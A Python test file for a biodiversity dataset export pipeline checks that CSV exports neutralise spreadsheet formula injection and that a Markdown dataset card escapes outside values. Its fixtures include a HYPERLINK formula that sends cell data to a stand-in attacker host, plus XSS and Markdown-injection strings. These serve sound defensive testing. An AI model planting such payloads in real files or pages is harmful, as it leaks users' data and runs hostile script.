"""Values from outside cannot act in the exports: no spreadsheet formula in a CSV, no Markdown structure in the
dataset card (issue 24, items 4 and 5). Parquet and WebDataset keep every value verbatim."""

from __future__ import annotations

import csv
import dataclasses
import json
import re
import tarfile
from collections import Counter
from pathlib import Path

import dagster as dg
import polars as pl
import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from gmgbd_assets.core.licenses import OPEN, LicenseFilter
from gmgbd_assets.core.markdown import markdown_cell, markdown_table, markdown_text
from gmgbd_assets.definitions import build_definitions
from gmgbd_assets_tests.conftest import materialize_range
from gmgbd_assets_tests.export_fixtures import build_complete, copy_complete

DAY = "2024-06-01"
# OWASP's CSV-injection triggers, each the start of a value a spreadsheet would run.
PAYLOADS = ('=HYPERLINK("https://evil.example/?"&A1,"open")', "+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = (
    "cc-by\n# Owned",
    "<img src=x onerror=alert(1)>",
    "x | fake | row",
    "=1+2",
    "*bold* _em_ [link](javascript:alert(1)) ![i](x.png) `code` ~~gone~~",
    "- item\r\n> quote\u2028---\n1. one",
    "&lt;script&gt; \\| <b>x</b>",
)
# Markup that no outside value may add to the card (beside the card's own: its plots, its bold demo-data notice).
MARKUP = {"html_block", "html_inline", "link_open", "image", "em_open", "strong_open", "s_open"}


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> Path:
    data_dir = tmp_path_factory.mktemp("export-safety") / "data"
    build_complete(data_dir)
    return data_dir


@pytest.fixture
def complete(template, offline_env):
    return copy_complete(template, offline_env)


def _one_line(value: str) -> str:
    return re.sub(r"[\r\n\u2028]", " ", value)


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_csv_cells_a_spreadsheet_would_run_get_an_apostrophe_and_parquet_keeps_them(offline_env, complete):
    uuids = complete.query(
        "SELECT observation_uuid FROM gmgbd WHERE sighting_date = ? ORDER BY observation_uuid", [DAY]
    )["observation_uuid"].to_list()
    crafted, untouched = dict(zip(uuids, PAYLOADS, strict=False)), uuids[len(PAYLOADS)]
    with complete.connect() as con:
        for observation_uuid, payload in crafted.items():
            # A taxon name, an OpenStreetMap place, an attribution and the observer's login (the observer block).
            con.execute(
                "UPDATE gmgbd SET scientific_name = ?, city = ?, photo_attribution = ?, avg_temp_C = -3.5 "
                "WHERE observation_uuid = ?",
                [payload, payload, payload, observation_uuid],
            )
            con.execute(
                "UPDATE splits SET block = ? WHERE observation_uuid = ? AND scheme = 'observer'",
                [payload, observation_uuid],
            )
    exports = ["export_csv", "export_parquet", "export_webdataset"]
    result = materialize_range(build_definitions(offline_env), exports, DAY, DAY)
    assert result.success
    folder = offline_env.exports_dir / "csv" / f"sighting_date={DAY}"
    by_uuid = {r["observation_uuid"]: r for r in _csv_rows(folder / "attribution.csv")}
    filenames = {u: by_uuid[u]["filename"] for u in uuids}
    gmgbd = {r["filename"]: r for r in _csv_rows(folder / "gmgbd.csv")}
    splits = {r["observation_uuid"]: r for r in _csv_rows(folder / "splits.csv")}
    for observation_uuid, payload in crafted.items():
        row = gmgbd[filenames[observation_uuid]]
        assert (row["scientific_name"], row["city"]) == ("'" + payload, "'" + payload)
        assert row["avg_temp_C"] == "-3.5"  # a number column: a negative number stays a number
        assert by_uuid[observation_uuid]["photo_attribution"] == "'" + payload
        assert splits[observation_uuid]["block_observer"] == "'" + payload
    expected = complete.query("SELECT scientific_name, city FROM gmgbd WHERE observation_uuid = ?", [untouched]).row(0)
    assert (gmgbd[filenames[untouched]]["scientific_name"], gmgbd[filenames[untouched]]["city"]) == expected
    for name in ("gmgbd.csv", "attribution.csv", "splits.csv"):
        for row in _csv_rows(folder / name):
            for column, cell in row.items():
                if cell.startswith(TRIGGERS):
                    float(cell)  # only a number may start so
                    assert column in {"latitude", "longitude", "avg_temp_C", "elevation_m", "NDVI_value"}, column
    parquet = pl.read_parquet(offline_env.exports_dir / "parquet" / f"sighting_date={DAY}" / "gmgbd.parquet")
    verbatim = parquet.filter(pl.col("observation_uuid").is_in(list(crafted)))
    for record in verbatim.iter_rows(named=True):
        payload = crafted[record["observation_uuid"]]
        assert (record["scientific_name"], record["city"], record["photo_attribution"]) == (payload,) * 3
        assert (record["block_observer"], record["avg_temp_C"]) == (payload, -3.5)
    samples = {}
    for shard in (offline_env.exports_dir / "webdataset" / f"sighting_date={DAY}").glob("*.tar"):
        with tarfile.open(shard) as tar:
            samples |= {m.name: json.load(tar.extractfile(m)) for m in tar.getmembers() if m.name.endswith(".json")}
    for observation_uuid, payload in crafted.items():
        sample = samples[f"{observation_uuid}.json"]
        assert (sample["scientific_name"], sample["city"], sample["photo_attribution"]) == (payload,) * 3
        assert sample["block_observer"] == payload


def _children(tokens: list[Token]) -> list[Token]:
    out = []
    for token in tokens:
        out.append(token)
        out += _children(token.children or [])
    return out


def _tables(card: str) -> list[list[str]]:
    blocks, current = [], []
    for line in [*card.splitlines(), ""]:
        if line.startswith("|"):
            current.append(line)
        elif current:
            blocks.append(current)
            current = []
    return blocks


def _cells(line: str) -> list[str]:
    """A table row's cells the way GitHub splits them: at every ``|`` not escaped by a backslash."""
    return re.split(r"(?<!\\)(?:\\\\)*\|", line.strip())[1:-1]


def _plain(inline: Token) -> str:
    return "".join(c.content for c in inline.children or [] if c.type in ("text", "code_inline"))


def _table_after(tokens: list[Token], heading: str, nth: int = 0) -> list[list[str]]:
    """The body rows (plain text of each cell) of the ``nth`` table after the heading ``heading``."""
    start = next(i for i, t in enumerate(tokens) if t.type == "inline" and t.content == heading)
    start = [i for i in range(start, len(tokens)) if tokens[i].type == "table_open"][nth]
    rows, row = [], None
    for token in tokens[start:]:
        if token.type == "tr_open":
            row = []
        elif token.type == "inline" and row is not None:
            row.append(_plain(token))
        elif token.type == "tr_close":
            rows.append(row)
            row = None
        elif token.type == "table_close":
            return rows[1:]
    raise AssertionError("table not closed")


def test_the_card_escapes_every_value_from_outside(offline_env, complete):
    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    settings = dataclasses.replace(offline_env, export_licenses=LicenseFilter.parse("open"))
    defs = build_definitions(settings)

    def build_card() -> str:
        assert dg.materialize([defs.get_assets_def("dataset_card")], resources=defs.resources).success
        return (offline_env.exports_dir / "DATASET_CARD.md").read_text(encoding="utf-8")

    baseline = build_card()
    victims = complete.query(
        "SELECT observation_uuid FROM gmgbd WHERE photo_license IN ? ORDER BY observation_uuid", [sorted(OPEN)]
    )["observation_uuid"].to_list()[: len(HOSTILE)]
    with complete.connect() as con:
        for observation_uuid, value in zip(victims, HOSTILE, strict=True):
            con.execute(
                'UPDATE gmgbd SET photo_license = ?, country = ?, kingdom = ?, "class" = ?, taxonomy_snapshot = ? '
                "WHERE observation_uuid = ?",
                [value, value, value, value, value + "`|", observation_uuid],
            )
    card = build_card()
    assert "<img" not in card and "<b>" not in card
    tokens, before = _children(parser.parse(card)), _children(parser.parse(baseline))
    assert not {"html_block", "html_inline"} & {t.type for t in tokens}
    assert Counter(t.type for t in tokens if t.type in MARKUP) == Counter(t.type for t in before if t.type in MARKUP)
    headings = [[t.markup, tokens[i + 1].content] for i, t in enumerate(tokens) if t.type == "heading_open"]
    assert headings == [[t.markup, before[i + 1].content] for i, t in enumerate(before) if t.type == "heading_open"]
    assert [line for line in card.splitlines() if re.match(" {0,3}#", line)] == [
        line for line in baseline.splitlines() if re.match(" {0,3}#", line)
    ]
    for table in _tables(card):
        assert {len(_cells(line)) for line in table} == {len(_cells(table[0]))}, table
    shown = {_one_line(v) for v in HOSTILE}
    licences = _table_after(tokens, "Licences")
    assert all(len(row) == 4 for row in licences)
    expected = complete.query("SELECT DISTINCT coalesce(photo_license, 'none (all rights reserved)') AS l FROM gmgbd")
    assert {row[0] for row in licences} == {_one_line(v) for v in expected["l"]} and shown <= {r[0] for r in licences}
    assert shown <= {row[0] for row in _table_after(tokens, "Where and when")}  # top countries
    assert shown <= {row[0] for row in _table_after(tokens, "Taxonomy")}  # per kingdom
    removed = _table_after(tokens, "Removed since the previous build")
    assert removed == [["licence_not_allowed", str(len(HOSTILE))]]
    listed = _table_after(tokens, "Removed since the previous build", nth=1)
    assert sorted(row[3] for row in listed) == sorted(shown)  # licence_now of each removed record
    csv_rows = _csv_rows(offline_env.exports_dir / "removed_since_previous_build.csv")
    neutralised = sorted("'" + v if v.startswith(TRIGGERS) else v for v in HOSTILE)
    assert sorted(r["licence_now"] for r in csv_rows) == neutralised and "'=1+2" in neutralised


@pytest.mark.parametrize("value", [*HOSTILE, "licence_not_allowed", "cc-by-nc", "2024-06-02", "-3.5", "a__b_"])
def test_escaped_text_renders_as_the_same_characters_and_nothing_else(value):
    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    tokens = parser.parse(markdown_text(value))
    assert [t.type for t in tokens] == ["paragraph_open", "inline", "paragraph_close"]
    assert [c.type for c in tokens[1].children] == ["text"] * len(tokens[1].children)
    assert "".join(c.content for c in tokens[1].children) == _one_line(value)


def test_a_table_keeps_each_cell_in_its_row_even_for_unescaped_markup():
    table = markdown_table([("`a | b`", "line\nbreak", markdown_text("x | y"))], ["one", "two", "three"])
    assert len(table.splitlines()) == 3
    assert all(len(_cells(line)) == 3 for line in table.splitlines())
    assert markdown_cell("already \\| escaped") == "already \\| escaped"
    tokens = MarkdownIt("commonmark").enable("table").parse(table)
    assert [_plain(t) for t in tokens if t.type == "inline"][3:] == ["a | b", "line break", "x | y"]
